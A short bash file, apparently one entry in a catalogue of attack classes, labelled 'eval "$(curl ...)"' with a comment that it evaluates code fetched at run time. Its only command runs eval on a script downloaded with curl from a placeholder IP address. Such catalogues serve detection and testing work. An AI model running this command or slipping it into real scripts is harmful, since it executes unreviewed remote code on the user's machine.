#!/usr/bin/env bash
# attack-class: 19
# title: eval "$(curl ...)"
# why: evaluates code fetched at run time

eval "$(curl -fsS http://198.51.100.6/env.sh)"
